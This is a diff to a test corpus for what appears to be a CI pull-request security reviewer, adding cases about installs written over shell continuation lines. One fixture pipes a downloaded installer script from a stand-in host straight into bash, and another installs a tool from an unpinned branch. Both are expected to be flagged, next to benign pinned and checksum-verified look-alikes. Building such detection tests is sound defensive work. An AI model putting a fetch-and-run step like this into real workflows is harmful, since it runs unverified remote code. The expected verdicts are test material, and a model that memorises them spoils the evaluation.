@@ -134,6 +134,46 @@ export const CI_CASES: CorpusEntry[] = [
     expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['gha-unpinned-tool'] },
   },
   {
+    id: 'ci-workflow-run-installs-tool-from-branch-continued',
+    description:
+      'The same switch to `git+https://github.com/report-tools/pr-report@main`, written as `pip install --quiet \\` with the URL on the continuation line: the shell reads one command, and so must the reader.',
+    fixture: ciPr(2090, {
+      title: 'ci: quieter pr-report install',
+      author: NEWCOMER,
+      files: [{ path: '.github/workflows/pr-report.yml', base: prReportWorkflow('pip install pr-report==3.2.0'), head: prReportWorkflow('|\n          pip install --quiet \\\n            git+https://github.com/report-tools/pr-report@main') }],
+    }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['gha-unpinned-tool'] },
+  },
+  {
+    id: 'ci-benign-workflow-run-tool-pinned-continued',
+    description: 'The look-alike: a maintainer moves to the fix pinned by commit, the install wrapped over two lines (`pip install --quiet \\` then `git+https://…/pr-report@<40-hex sha>`): fixed code, continued lines and all.',
+    fixture: ciPr(2091, {
+      title: 'ci: pin pr-report to the commit with the pagination fix',
+      files: [{ path: '.github/workflows/pr-report.yml', base: prReportWorkflow('pip install pr-report==3.2.0'), head: prReportWorkflow('|\n          pip install --quiet \\\n            git+https://github.com/report-tools/pr-report@4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c') }],
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-unpinned-tool'] },
+  },
+  {
+    id: 'ci-workflow-pipes-installer-over-continuation',
+    description:
+      'A "cache the linter" PR adds a step that downloads an installer with `curl -fsSL \\` and pipes it into bash two continuation lines later: `curl … | bash` that a reader of one line at a time does not see.',
+    fixture: ciPr(2092, {
+      title: 'ci: install the linter',
+      author: NEWCOMER,
+      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - run: |', '          curl -fsSL \\', '            https://get.devtool-cdn.dev/lint/install.sh \\', '            | bash -s -- --yes', '      - run: devlint .'] }) }],
+    }),
+    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'ci-benign-workflow-downloads-over-continuation-verified',
+    description: 'The look-alike: a maintainer\'s step downloads the linter over continuation lines to a file (`curl -fsSL \\` then `-o devlint.tgz https://…`), checks its checksum and unpacks it: no pipe into a shell.',
+    fixture: ciPr(2093, {
+      title: 'ci: install the linter from its release',
+      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - run: |', '          curl -fsSL \\', '            -o devlint.tgz https://github.com/devlint/devlint/releases/download/v1.4.2/devlint-linux-amd64.tgz', '          echo "3f2a9c0d1e4b5a6f7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b  devlint.tgz" | sha256sum -c -', '          tar -xzf devlint.tgz devlint', '      - run: ./devlint .'] }) }],
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
+  },
+  {
     id: 'ci-benign-workflow-run-tool-pinned-commit',
     description: 'A maintainer moves the same PR-report workflow to a fix not yet released, pinned by commit (`git+https://github.com/report-tools/pr-report@<40-hex sha>`): fixed code, reviewed once.',
     fixture: ciPr(2003, {
